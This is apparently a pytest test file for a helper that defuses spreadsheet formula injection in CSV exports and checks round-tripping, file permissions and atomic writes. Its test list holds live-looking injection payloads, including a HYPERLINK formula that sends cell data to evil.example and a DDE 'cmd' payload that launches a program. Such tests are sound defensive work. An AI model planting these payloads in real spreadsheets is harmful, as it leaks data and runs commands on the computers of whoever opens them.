"""Lists for spreadsheets: no cell that runs, and every cell comes back as it was."""

import csv
import datetime as dt
import stat

import hypothesis
import pandas as pd
import pytest
from hypothesis import strategies as st

from cx_helpers import spreadsheet
from cx_helpers.spreadsheet import cell, text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "+98912", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1",
    "＝1+1", "＋1", "－1", "＠x", " =1", "\u200f=1", "'=1", "-",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_would_run_is_guarded_and_comes_back(formula):
    assert cell(formula) == "'" + formula
    assert text(cell(formula)) == formula


@pytest.mark.parametrize("value", ["سلام", "a=b", "1", "O'Neil", "'quoted'", "", 5, -5, -0.5, True])
def test_all_else_stays_as_it_is(value):
    assert cell(value) == value


@hypothesis.given(st.text(st.sampled_from("=+-@'\t\r\n \u200fa5ی"), max_size=6))
def test_every_text_comes_back(value):
    guarded = cell(value)
    assert text(guarded) == value
    assert not guarded.lstrip(" \u200f").startswith(spreadsheet._RUN)


def test_a_frame_is_written_for_its_owner_and_read_again(tmp_path):
    frame = pd.DataFrame(
        {
            "=name": ["=1+1", 'او گفت "نه"، و رفت\nبعد', None],
            "amount": [-5.5, 12.0, None],
            "n": [-1, 2, 3],
            "at": [dt.datetime(2025, 9, 22, 14, 30), None, None],
        }
    )
    path = tmp_path / "lists" / "review.csv"
    spreadsheet.write(path, frame)
    raw = path.read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"\'=name",')
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["review.csv"]
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert rows[1] == ["'=1+1", "-5.5", "-1", "2025-09-22 14:30:00"]
    assert spreadsheet.read(path) == [
        {"=name": "=1+1", "amount": "-5.5", "n": "-1", "at": "2025-09-22 14:30:00"},
        {"=name": 'او گفت "نه"، و رفت\nبعد', "amount": "12.0", "n": "2", "at": ""},
        {"=name": "", "amount": "", "n": "3", "at": ""},
    ]


def test_what_a_spreadsheet_saved_with_semicolons_is_read_too(tmp_path):
    path = tmp_path / "saved.csv"
    path.write_text("a;b\r\n'=1;2\r\n", "utf-8")
    assert spreadsheet.read(path) == [{"a": "=1", "b": "2"}]


def test_a_write_that_fails_leaves_what_was_there(tmp_path):
    path = tmp_path / "a.csv"
    spreadsheet.write(path, pd.DataFrame({"a": ["old"]}))

    class Bad:
        def __str__(self):
            raise RuntimeError

    with pytest.raises(RuntimeError):
        spreadsheet.write(path, pd.DataFrame({"a": [Bad()]}))
    assert spreadsheet.read(path) == [{"a": "old"}]
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]
